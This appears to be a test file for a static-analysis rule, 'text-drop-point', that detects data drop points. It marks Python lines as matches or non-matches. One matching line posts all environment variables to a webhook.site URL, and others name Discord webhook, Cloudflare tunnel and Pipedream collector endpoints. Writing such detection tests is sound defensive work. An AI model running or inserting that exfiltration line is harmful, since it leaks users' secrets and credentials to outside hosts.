import os

import requests

# ruleid: text-drop-point
requests.post("https://webhook.site/0a1b2c3d", json=dict(os.environ), timeout=5)
# ruleid: text-drop-point
HOOK = "https://discord.com/api/webhooks/123456789012345678/abcDEF-ghiJKL"
# ruleid: text-drop-point
TUNNEL = "https://brave-fox.trycloudflare.com/collect"
# ok: text-drop-point
requests.post("https://hooks.example.com/0a1b2c3d", json={}, timeout=5)
# ok: text-drop-point
DOCS = "https://discord.com/developers/docs"
# ok: text-drop-point
API = "https://api.telegram.org/bot" + os.environ["TELEGRAM_TOKEN"]

# ok: text-drop-point
HINT = "eg: https://webhook.site/guardrail"

# ok: text-drop-point
MCP_SERVER = "https://remote.mcp.pipedream.net"
# ruleid: text-drop-point
COLLECT = "https://eo9k2x7abcdef.m.pipedream.net"
